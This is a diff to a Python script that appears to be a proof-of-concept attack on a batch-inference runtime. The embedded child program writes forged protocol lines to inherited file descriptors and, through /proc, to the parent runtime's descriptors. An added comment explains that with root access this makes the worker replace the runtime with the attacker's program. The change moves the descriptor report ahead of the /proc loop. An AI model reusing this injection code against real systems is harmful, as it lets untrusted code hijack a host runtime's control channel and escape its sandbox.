@@ -71,7 +71,10 @@ def forged(batch):
                          "header": None}) + "\n" for b in (batch, "00000011")]
     return "".join(lines).encode()
 # A program the script runs: writes the forged line to every descriptor it has from 3 to 64
-# and to every descriptor of its parent (the runtime) it can open through /proc.
+# and to every descriptor of its parent (the runtime) it can open through /proc. It reports
+# the descriptors it inherited before it goes through /proc: where it can open the runtime's
+# channel there (root), the forged line makes the worker replace the runtime at once, with
+# this program in its process group.
 CHILD = r'''
 import os, sys
 line, parent, report = sys.argv[1].encode(), int(sys.argv[2]), sys.argv[3]
@@ -82,6 +85,8 @@ for fd in range(3, 65):
         inherited.append(str(fd))
     except OSError:
         pass
+with open(report, "w") as f:
+    f.write(",".join(inherited))
 for name in os.listdir("/proc/%d/fd" % parent):
     try:
         fd = os.open("/proc/%d/fd/%s" % (parent, name), os.O_WRONLY | os.O_NONBLOCK)
@@ -92,8 +97,6 @@ for name in os.listdir("/proc/%d/fd" % parent):
     except OSError:
         pass
     os.close(fd)
-with open(report, "w") as f:
-    f.write(",".join(inherited))
 '''
 
 def run(mini_batch, context):
